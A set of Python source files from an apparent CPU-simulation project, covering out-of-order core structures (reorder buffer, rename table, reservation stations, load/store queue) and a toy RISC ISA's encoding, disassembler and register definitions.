    """Program-ordered window of in-flight instructions.

    Entries enter at the tail at dispatch and leave at the head at
    commit — strictly in order.  Wrong-path entries may only ever be
    removed from the *tail* (a squash), never committed.
    """

    def __init__(self, depth):
        self.depth = depth
        self.entries = deque()

    def __len__(self):
        return len(self.entries)

    def __iter__(self):
        return iter(self.entries)

    @property
    def full(self):
        return len(self.entries) >= self.depth

    def free_slots(self):
        """Unallocated entries — the transient-execution window."""
        return max(0, self.depth - len(self.entries))

    def append(self, entry):
        self.entries.append(entry)
        return entry

    def head(self):
        return self.entries[0]

    def pop_head(self):
        entry = self.entries.popleft()
        assert not entry.wrong_path, \
            "wrong-path uop reached the commit port"
        return entry

    def squash_tail(self):
        """Drop every wrong-path entry off the tail; returns the count."""
        squashed = 0
        while self.entries and self.entries[-1].wrong_path:
            self.entries.pop()
            squashed += 1
        return squashed

    def clear(self):
        self.entries.clear()


class RegisterStatus:
    """The rename table: architectural register -> producing ROB entry.

    ``None`` means the committed register file holds the value.  A
    branch checkpoints the whole table; recovery restores it, which —
    together with restoring the rename file values — is the "squash to
    the checkpointed rename map" step.
    """

    def __init__(self, num_registers):
        self.producers = [None] * num_registers

    def checkpoint(self):
        return list(self.producers)

    def restore(self, snapshot):
        self.producers[:] = snapshot

    def set(self, register, entry):
        self.producers[register] = entry

    def retire(self, register, entry):
        """Clear the mapping at commit if *entry* is still the producer."""
        if self.producers[register] is entry:
            self.producers[register] = None

    def clear(self):
        for index in range(len(self.producers)):
            self.producers[index] = None


class ReservationStations:
    """One bounded issue pool per functional-unit kind.

    Modelled as the completion times of the occupying instructions: an
    entry frees once its instruction's result is ready.  ``acquire``
    returns the (possibly stalled) dispatch time — structural hazards
    push fetch, exactly like a full ROB does.
    """

    def __init__(self, capacities):
        self.pools = {kind: [] for kind in capacities}
        self.capacities = dict(capacities)

    def acquire(self, kind, now):
        pool = self.pools[kind]
        capacity = self.capacities[kind]
        if len(pool) >= capacity:
            pool[:] = [t for t in pool if t > now]
            while len(pool) >= capacity:
                now = min(pool)
                pool[:] = [t for t in pool if t > now]
        return now

    def issue(self, kind, completion):
        self.pools[kind].append(completion)

    def clear(self):
        for pool in self.pools.values():
            pool.clear()


class LoadStoreQueue:
    """Bounded window of in-flight memory operations.

    Functional memory effects happen at dispatch (the rename file is
    eager), so the queue models *capacity*: a full LSQ stalls dispatch
    of the next memory op until the oldest in-flight one commits.
    Entries are (seq, completion) pairs; the core releases them as
    their instructions commit.
    """

    def __init__(self, depth):
        self.depth = depth
        self.entries = deque()

    def __len__(self):
        return len(self.entries)

    @property
    def full(self):
        return len(self.entries) >= self.depth

    def push(self, seq, completion):
        self.entries.append((seq, completion))

    def release(self, seq):
        """Retire the queue entry for a committing instruction."""
        if self.entries and self.entries[0][0] == seq:
            self.entries.popleft()

    def clear(self):
        self.entries.clear()
