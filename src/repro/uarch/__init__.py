"""Microarchitectures behind the common :class:`CpuCore` interface.

``make_core("inorder", ...)`` returns the classic in-order speculative
core (:class:`repro.cpu.cpu.Cpu`, constructed exactly as before — the
refactor is bit-exact); ``make_core("ooo", ...)`` returns the Tomasulo
out-of-order core where reorder-buffer depth bounds transient
execution.  See ``docs/MICROARCH.md`` for the contract and the design.
"""

from repro.uarch.core import (
    DEFAULT_UARCH,
    UARCHS,
    CpuCore,
    make_core,
    register_uarch,
)
from repro.uarch.ooo import OooCore, OooParams
from repro.uarch.structures import (
    LoadStoreQueue,
    RegisterStatus,
    ReorderBuffer,
    ReservationStations,
    RobEntry,
)

__all__ = [
    "CpuCore",
    "DEFAULT_UARCH",
    "LoadStoreQueue",
    "OooCore",
    "OooParams",
    "RegisterStatus",
    "ReorderBuffer",
    "ReservationStations",
    "RobEntry",
    "UARCHS",
    "make_core",
    "register_uarch",
]
