"""Toy RISC ISA: registers, opcodes, encoding, assembler, disassembler."""

from repro.isa.assembler import Assembler, assemble
from repro.isa.disassembler import disassemble, format_listing
from repro.isa.encoding import (
    INSTRUCTION_SIZE,
    decode,
    decode_program,
    encode,
    encode_program,
    try_decode,
)
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Format, Opcode
from repro.isa.program import DATA, Program, Relocation, Symbol, TEXT
from repro.isa import registers

__all__ = [
    "Assembler",
    "assemble",
    "disassemble",
    "format_listing",
    "INSTRUCTION_SIZE",
    "decode",
    "decode_program",
    "encode",
    "encode_program",
    "try_decode",
    "Instruction",
    "Format",
    "Opcode",
    "DATA",
    "TEXT",
    "Program",
    "Relocation",
    "Symbol",
    "registers",
]
