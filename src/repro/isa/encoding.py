"""Binary encoding of instructions.

Layout of the fixed 8-byte instruction word (little endian)::

    byte 0   opcode
    byte 1   rd
    byte 2   rs1
    byte 3   rs2
    byte 4-7 imm (signed 32-bit, little endian)

The fixed width keeps the gadget scanner honest: a gadget address is any
instruction-slot-aligned address inside an executable segment, and the
scanner decodes forward from it exactly like the CPU's fetch unit would.
"""

import struct

from repro.errors import EncodingError
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Opcode, is_valid_opcode

INSTRUCTION_SIZE = 8

_STRUCT = struct.Struct("<BBBBi")


def encode(instruction):
    """Encode an :class:`Instruction` into 8 bytes."""
    return _STRUCT.pack(
        int(instruction.opcode),
        instruction.rd,
        instruction.rs1,
        instruction.rs2,
        instruction.imm,
    )


def decode(blob, offset=0):
    """Decode 8 bytes starting at *offset* into an :class:`Instruction`.

    Raises :class:`EncodingError` for truncated input, an undefined opcode
    byte or out-of-range register fields — the CPU turns that into an
    illegal-instruction fault.
    """
    if len(blob) - offset < INSTRUCTION_SIZE:
        raise EncodingError(
            f"truncated instruction: need {INSTRUCTION_SIZE} bytes, "
            f"have {len(blob) - offset}"
        )
    opcode, rd, rs1, rs2, imm = _STRUCT.unpack_from(blob, offset)
    if not is_valid_opcode(opcode):
        raise EncodingError(f"illegal opcode byte {opcode:#04x}")
    if rd >= 16 or rs1 >= 16 or rs2 >= 16:
        raise EncodingError(
            f"register field out of range in encoded instruction "
            f"(rd={rd}, rs1={rs1}, rs2={rs2})"
        )
    return Instruction(Opcode(opcode), rd=rd, rs1=rs1, rs2=rs2, imm=imm)


def try_decode(blob, offset=0):
    """Like :func:`decode` but returns ``None`` instead of raising.

    Used by the gadget scanner, which probes arbitrary byte positions.
    """
    try:
        return decode(blob, offset)
    except EncodingError:
        return None


def encode_program(instructions):
    """Encode a sequence of instructions into one bytes object."""
    return b"".join(encode(instruction) for instruction in instructions)


def decode_program(blob):
    """Decode a whole text segment into a list of instructions."""
    if len(blob) % INSTRUCTION_SIZE:
        raise EncodingError(
            f"text segment length {len(blob)} is not a multiple of "
            f"{INSTRUCTION_SIZE}"
        )
    return [decode(blob, off) for off in range(0, len(blob), INSTRUCTION_SIZE)]
