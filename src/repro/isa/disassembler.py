"""Disassembler: encoded bytes back to readable assembly.

Used by debugging helpers and by the gadget scanner's reporting path, so
an analyst can inspect exactly which instruction sequence a gadget
executes.
"""

from repro.isa.encoding import INSTRUCTION_SIZE, try_decode


def disassemble(blob, base=0):
    """Disassemble a text segment.

    Returns a list of ``(address, instruction_or_none, text)`` tuples;
    undecodable slots are rendered as ``.byte`` lines so the output always
    covers every byte.
    """
    lines = []
    for offset in range(0, len(blob) - len(blob) % INSTRUCTION_SIZE,
                        INSTRUCTION_SIZE):
        address = base + offset
        instruction = try_decode(blob, offset)
        if instruction is None:
            raw = blob[offset:offset + INSTRUCTION_SIZE]
            text = ".byte " + ", ".join(f"{b:#04x}" for b in raw)
        else:
            text = instruction.to_assembly()
        lines.append((address, instruction, text))
    return lines


def format_listing(blob, base=0):
    """Return a printable multi-line disassembly listing."""
    return "\n".join(
        f"{address:#010x}:  {text}" for address, _, text in disassemble(blob, base)
    )
