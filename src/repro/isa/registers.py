"""Register file definition for the toy RISC ISA.

The machine has 16 general-purpose 32-bit registers.  ``r0`` is hardwired
to zero (writes are discarded), mirroring the RISC convention; the stack
grows downward through ``sp``.

Calling convention
------------------
==========  =====  =========================================
Alias       Index  Role
==========  =====  =========================================
``zero``    0      constant zero
``rv``      1      return value / syscall return
``a0..a3``  2-5    arguments (``a0`` also carries the syscall
                   number at a ``syscall`` instruction)
``t0..t3``  6-9    caller-saved temporaries
``s0..s1``  10-11  callee-saved
``fp``      12     frame pointer (callee-saved)
``sp``      13     stack pointer
``gp``      14     global pointer (rarely used)
``lr``      15     scratch link register (``call`` pushes the
                   return address on the *stack*, not here)
==========  =====  =========================================
"""

NUM_REGISTERS = 16

REGISTER_ALIASES = {
    "zero": 0,
    "rv": 1,
    "a0": 2,
    "a1": 3,
    "a2": 4,
    "a3": 5,
    "t0": 6,
    "t1": 7,
    "t2": 8,
    "t3": 9,
    "s0": 10,
    "s1": 11,
    "fp": 12,
    "sp": 13,
    "gp": 14,
    "lr": 15,
}

# Canonical printable name for each index (aliases win over rN).
REGISTER_NAMES = ["r%d" % i for i in range(NUM_REGISTERS)]
for _alias, _idx in REGISTER_ALIASES.items():
    REGISTER_NAMES[_idx] = _alias

ZERO = REGISTER_ALIASES["zero"]
RV = REGISTER_ALIASES["rv"]
A0 = REGISTER_ALIASES["a0"]
A1 = REGISTER_ALIASES["a1"]
A2 = REGISTER_ALIASES["a2"]
A3 = REGISTER_ALIASES["a3"]
T0 = REGISTER_ALIASES["t0"]
T1 = REGISTER_ALIASES["t1"]
T2 = REGISTER_ALIASES["t2"]
T3 = REGISTER_ALIASES["t3"]
S0 = REGISTER_ALIASES["s0"]
S1 = REGISTER_ALIASES["s1"]
FP = REGISTER_ALIASES["fp"]
SP = REGISTER_ALIASES["sp"]
GP = REGISTER_ALIASES["gp"]
LR = REGISTER_ALIASES["lr"]


def parse_register(token):
    """Return the register index for a textual operand.

    Accepts both the ``rN`` spelling and the ABI aliases above.

    >>> parse_register("sp")
    13
    >>> parse_register("r7")
    7
    """
    token = token.strip().lower()
    if token in REGISTER_ALIASES:
        return REGISTER_ALIASES[token]
    if token.startswith("r") and token[1:].isdigit():
        index = int(token[1:])
        if 0 <= index < NUM_REGISTERS:
            return index
    raise ValueError(f"unknown register {token!r}")


def register_name(index):
    """Return the canonical name for a register index."""
    if not 0 <= index < NUM_REGISTERS:
        raise ValueError(f"register index out of range: {index}")
    return REGISTER_NAMES[index]
